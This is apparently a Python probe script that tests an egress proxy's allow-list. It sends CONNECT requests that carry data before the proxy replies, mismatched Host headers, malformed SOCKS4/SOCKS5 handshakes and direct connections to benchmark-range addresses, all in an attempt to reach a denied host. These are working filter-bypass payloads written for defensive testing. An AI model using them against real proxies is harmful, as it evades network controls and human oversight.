"""Data before the proxy has said yes, older ways to ask it, and addresses of nobody."""

from probe import *

BAD = request("denied.test", "/" + TOKEN)
NAME = b"\3\x0callowed.test\0\x50"


def control():
    send("denied.test", 80, BAD)


def attack():
    patience(1)
    ask = b"CONNECT allowed.test:80 HTTP/1.1\r\nHost: allowed.test:80\r\n"
    say("early", to_proxy(ask + b"\r\n" + BAD))
    say("early", to_proxy(ask + b"Content-Length: 0\r\n\r\n" + BAD))
    say("early", to_proxy(ask + b"Transfer-Encoding: chunked\r\n\r\n0\r\n\r\n" + BAD))
    other = b"CONNECT denied.test:80 HTTP/1.1\r\nHost: allowed.test:80\r\n\r\n"
    say("early", to_proxy(other + BAD))
    say("early", to_proxy(b"CONNECT http://denied.test:80 HTTP/1.1\r\nHost: x\r\n\r\n" + BAD))
    say("early", to_proxy(b"CONNECT /denied.test:80 HTTP/1.1\r\nHost: x\r\n\r\n" + BAD))
    say("early", to_proxy(b"\5\1\0\5\1\0" + NAME + BAD))
    say("early", to_proxy(b"\5\0"))
    say("early", to_proxy(b"\5\1\0\5\1\1" + NAME + BAD))
    say("early", to_proxy(b"\5\1\0\5\1\0\2" + NAME[1:] + BAD))
    say("early", to_proxy(b"\5\1\0\5\1\0\3\0\0\x50" + BAD))
    # The version before: by address, and by name.
    say("early", to_proxy(b"\4\1\0\x50\xcb\0\x71\x14\0" + BAD))
    say("early", to_proxy(b"\4\1\0\x50\0\0\0\1\0denied.test\0" + BAD))
    say("early", to_proxy(b"\4\1\0\x50\0\0\0\1\0allowed.test\0" + BAD))
    # Where names have their addresses, most have no name.
    for last in (0, 1, 3, 4, 9, 200, 255):
        say("nobody", send(f"198.18.0.{last}", 80, request("allowed.test", "/" + TOKEN)))
        say("nobody", tls(f"198.19.255.{last}", 443, "allowed.test", BAD))
        say("nobody", tunnel(f"198.18.0.{last}:80", request("allowed.test", "/" + TOKEN)))


start(attack, control)
